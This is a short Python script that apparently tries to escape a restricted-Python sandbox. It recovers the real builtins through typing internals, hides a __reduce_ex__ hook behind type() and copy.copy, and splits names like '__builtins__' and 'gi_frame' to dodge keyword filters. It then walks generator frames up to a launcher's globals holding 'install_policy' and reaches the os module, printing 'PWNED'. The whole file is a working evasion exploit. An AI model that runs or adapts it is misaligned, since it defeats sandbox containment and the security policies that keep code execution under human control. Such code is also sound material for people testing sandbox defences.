# frame: gi_frame read from copy's frame, then f_back up to the launcher's globals
import typing
M = "PWN" + "ED"
box = {}
typing.get_args(typing.List["int"])[0]._evaluate(box, None, frozenset())
rb = box["__buil" + "tins__"]  # typing's builtins dict: the real one
ga = rb["getattr"]
import copy
def via_copy(f, *args):
    # copy.copy calls the (callable, args) that __reduce_ex__ returns from copy's own frame;
    # the class is made by type(), so no `def __reduce_ex__` appears in the source
    R = type("R", (), {"__redu" + "ce_ex__": lambda self, proto: (f, args)})
    return copy.copy(R())

found = []
def gen():
    f = via_copy(ga, g, "gi_fr" + "ame")
    while f is not None:
        fg = ga(f, "f_glob" + "als")
        if "install_policy" in fg:
            found.append(fg)
        f = ga(f, "f_ba" + "ck")
    yield
g = gen()
try:
    next(g)
    if found:
        print(M, "launcher globals:", found[0]["o" + "s"].getpid())
except Exception as e:
    print("refused:", type(e).__name__, e)
